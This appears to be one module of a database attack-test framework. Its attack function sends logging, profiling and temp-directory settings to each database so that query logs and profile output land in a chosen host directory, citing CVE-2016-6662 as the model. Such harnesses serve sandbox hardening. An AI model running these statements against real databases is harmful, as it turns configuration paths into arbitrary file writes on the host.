"""Have the database write its log, its profile and its queries to files of the host.

origin: log files as a way to write, CVE-2016-6662 (MySQL) and its like
why: a path in a setting is a path that is written
control: succeeds
harm: stage
grants: data
data: input
"""


def attack(target):
    stage = target["stage"]
    last = ""
    for database in databases():
        for setting in (
            f"SET log_query_path = '{stage}/queries.log'",
            f"CALL enable_logging(storage := 'file', storage_path := '{stage}/logs')",
            f"PRAGMA profiling_output = '{stage}/profile.json'",
            "PRAGMA enable_profiling = 'json'",
            f"SET temp_directory = '{stage}/temporary'",
        ):
            last = ask(database, setting)[1] or last
        ask(database, "SELECT sum(i) FROM range(1000) t(i)")
    return nothing(last)
